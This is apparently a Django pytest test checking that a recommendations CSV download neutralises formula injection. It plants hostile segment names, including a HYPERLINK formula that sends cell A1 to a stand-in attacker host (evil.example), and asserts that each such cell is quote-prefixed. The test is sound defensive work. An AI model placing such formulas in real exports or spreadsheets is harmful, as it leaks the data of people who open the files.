"""CSV formula injection, end to end: a hostile segment name from a target's dictionary, through the download."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

HOSTILE = {
    "owner": "+SYS",
    "object_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "subobject_name": "@SUM(1+1)",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class CsvDownloadTests:
    def test_it_neutralises_formula_cells_in_the_download(self, admin_client, demo_target, collect):
        from apps.snapshots.models import Segment
        from apps.tiering.models import Recommendation

        collect(demo_target)
        segment_id = Recommendation.objects.current(target_id=demo_target.id).order_by("pk").first().segment_id
        Segment.objects.filter(pk=segment_id).update(**HOSTILE)

        response = admin_client.get("/targets/demo/recommendations/?format=csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))

        # The hostile row reads as text, prefixed with a quote, and as its name otherwise.
        row = next(r for r in rows if r["object_name"].endswith('"click")'))
        assert row["owner"] == "'+SYS"
        assert row["object_name"] == "'" + HOSTILE["object_name"]
        assert row["subobject_name"] == "'@SUM(1+1)"
        # No cell of the file starts a formula; a leading minus is a number's sign only.
        for r in rows:
            for column, cell in r.items():
                assert not cell.startswith(TRIGGERS) or is_number(cell), (column, cell)
